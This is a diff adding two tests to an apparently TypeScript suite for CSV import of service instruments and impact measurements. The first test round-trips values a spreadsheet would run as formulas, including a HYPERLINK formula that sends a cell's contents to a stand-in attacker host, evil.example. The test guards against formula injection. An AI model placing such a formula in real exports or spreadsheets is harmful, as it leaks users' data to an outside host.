@@ -182,6 +182,32 @@ describe('importing instruments', () => {
     expect(row).toEqual({ channels: ['web', 'phone'], published: true, partner_id: fixture.world.partnerA.id });
   });
 
+  it('brings back a downloaded instrument whose texts a spreadsheet would run as formulas, exactly as it was', async () => {
+    const { db } = fixture.context;
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip hostile")';
+    const original = instrument(fixture.world.partnerA.id, name, {
+      description: "'=1+1 stays as typed, and so does this:\n-2+3",
+      authentication: '+SPID',
+      isFree: false,
+      costDescription: '@once a year',
+      services: [
+        { name: '@Applying', description: '' },
+        { name: "'-Renewing", description: '' },
+        { name: 'Paying by card | by transfer; or in cash', description: '' },
+      ],
+    });
+    valueOf(await createInstrument(db, fixture.world.users.editorA.actor, original));
+    const download = await (await fixture.browserFor('editorA')).get(`/instruments.csv?partner=${fixture.world.partnerA.id}&q=hostile`);
+    expect(readPage(await uploadCatalogue(download.body.replace(/^\uFEFF/, ''))).status).toBe(200);
+    const rows = await db.selectFrom('instruments').select(['id', 'name', 'description', 'authentication', 'cost_description', 'channels', 'kind', 'stage']).where('name', '=', name).orderBy('id').execute();
+    expect(rows).toHaveLength(2);
+    const [first, second] = rows.map(({ id: _id, ...row }) => row);
+    expect(second).toEqual(first);
+    const services = await db.selectFrom('instrument_services').select(['instrument_id', 'name']).where('instrument_id', 'in', rows.map((row) => row.id)).orderBy('instrument_id').orderBy('position').execute();
+    const names = ['@Applying', "'-Renewing", 'Paying by card | by transfer; or in cash'];
+    expect(services.map((service) => service.name)).toEqual([...names, ...names]);
+  });
+
   it('lists every bad row by line and column, in words, and writes nothing', async () => {
     const { partnerA } = fixture.world;
     const csv = [
@@ -295,6 +321,18 @@ describe('importing impact measurements', () => {
     expect(existing.status).toBe(400);
     expect(problemRows(existing)).toEqual([['3', 'period_start', 'This period overlaps the period already recorded from 2025-10-01 to 2025-12-31']]);
     expect((await periodsOf(ids.publishedB)).map((period) => period.period_start)).toEqual(['2025-10-01']);
+  });
+
+  it('lists a period overlapping one already recorded together with the other rows’ problems, in one report', async () => {
+    const { db } = fixture.context;
+    const id = valueOf(await createInstrument(db, fixture.world.users.editorA.actor, instrument(fixture.world.partnerA.id, 'Impact in one round'))).id;
+    valueOf(await addImpact(db, fixture.world.users.editorA.actor, id, { periodStart: '2024-01-01', periodEnd: '2024-03-31', users: 10, transactions: null, processingMinutesDigital: null, processingMinutesFormer: null, costDigitalEur: null, costFormerEur: null, satisfactionPercent: null, digitalSharePercent: null }));
+    const page = readPage(await uploadImpact(id, [impactHeader, '2024-02-01,2024-02-29,5,,,,,,,', '2024-05-01,2024-05-31,-5,,,,,,,'].join('\n')));
+    expect(page.status).toBe(400);
+    expect(problemRows(page)).toEqual([
+      ['2', 'period_start', 'This period overlaps the period already recorded from 2024-01-01 to 2024-03-31'],
+      ['3', 'users', (await en())('instruments.impact.count.invalid')],
+    ]);
   });
 
   it('refuses bad figures by line and column with the measurement form’s messages', async () => {
